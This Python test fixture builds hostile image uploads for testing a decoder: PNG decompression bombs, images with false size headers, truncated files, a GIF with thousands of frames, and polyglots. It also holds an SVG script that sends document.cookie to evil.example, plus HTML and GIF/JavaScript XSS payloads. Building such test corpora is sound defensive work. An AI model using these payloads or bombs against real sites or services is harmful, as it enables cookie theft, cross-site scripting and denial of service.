"""A corpus of hostile "avatars", made by code (nothing downloaded, nothing copied).

Each entry is bytes a client could send as an avatar that a safe decoder must refuse without
spending unbounded time or memory: decompression bombs, lying headers, truncation, animation
bombs, markup posing as an image and polyglots.
"""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png(width: int, height: int, idat: bytes, bit_depth: int = 8, color_type: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_decompression_bomb(side: int = 30_000) -> bytes:
    """A real, complete PNG of side x side black pixels (1-bit): ~110 MB of pixels in ~100 KB."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    chunks = [compressor.compress(row * 1000) for _ in range(side // 1000)]
    chunks.append(compressor.flush())
    return _png(side, side, b"".join(chunks), bit_depth=1)


def png_huge_declared_size() -> bytes:
    """Header says 100000 x 100000 RGBA; the data is a few bytes."""
    return _png(100_000, 100_000, zlib.compress(b"\x00" * 64), bit_depth=8, color_type=6)


def png_zero_size() -> bytes:
    return _png(0, 0, zlib.compress(b""))


def small_jpeg(size: int = 64) -> bytes:
    image = Image.new("RGB", (size, size), (30, 120, 200))
    for x in range(size):
        image.putpixel((x, x), (255, 255, 0))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return out.getvalue()


def truncated_jpeg() -> bytes:
    whole = small_jpeg(256)
    return whole[: len(whole) // 3]


def jpeg_huge_declared_size() -> bytes:
    """A JPEG whose SOF0 claims 65500 x 65500 pixels, followed by almost no data."""
    whole = bytearray(small_jpeg(16))
    sof = whole.find(b"\xff\xc0")
    struct.pack_into(">HH", whole, sof + 5, 65_500, 65_500)
    return bytes(whole)


def gif_thousands_of_frames(frames: int = 3_000) -> bytes:
    images = []
    for i in range(frames):
        frame = Image.new("L", (8, 8), 0)
        frame.putpixel((i % 8, (i // 8) % 8), 255)  # every frame differs from the one before
        images.append(frame)
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=10, loop=0)
    return out.getvalue()


def gif_huge_canvas() -> bytes:
    """A GIF whose logical screen is 65535 x 65535 with a 1 x 1 frame."""
    image = Image.new("P", (1, 1), 0)
    out = io.BytesIO()
    image.save(out, "GIF")
    data = bytearray(out.getvalue())
    struct.pack_into("<HH", data, 6, 65_535, 65_535)
    return bytes(data)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<image href="https://evil.example/track.png"/></svg>'
)
HTML = b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)><script>alert(document.domain)</script></body></html>"
# A GIF header followed by JavaScript: a classic image/script polyglot, not a decodable image.
GIF_JS_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//"
# A PDF that starts like one and carries a JPEG inside: a PDF, not an avatar.
PDF_JPEG_POLYGLOT = b"%PDF-1.4\n1 0 obj<<>>stream\n" + b"\xff\xd8\xff\xe0" + b"\x00" * 64 + b"\nendstream endobj\n%%EOF"
# A JPEG start-of-image marker followed by HTML.
JPEG_HTML_POLYGLOT = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + HTML


def corpus() -> dict[str, bytes]:
    """name -> bytes. Built fresh by the tests (the bomb takes a moment to compress)."""
    return {
        "png_decompression_bomb": png_decompression_bomb(),
        "png_huge_declared_size": png_huge_declared_size(),
        "png_zero_size": png_zero_size(),
        "truncated_jpeg": truncated_jpeg(),
        "jpeg_huge_declared_size": jpeg_huge_declared_size(),
        "gif_thousands_of_frames": gif_thousands_of_frames(),
        "gif_huge_canvas": gif_huge_canvas(),
        "svg_as_image": SVG,
        "html_as_image": HTML,
        "gif_js_polyglot": GIF_JS_POLYGLOT,
        "pdf_jpeg_polyglot": PDF_JPEG_POLYGLOT,
        "jpeg_html_polyglot": JPEG_HTML_POLYGLOT,
        "empty_after_magic": b"\x89PNG\r\n\x1a\n",
        "random_bytes": bytes(range(256)) * 16,
    }
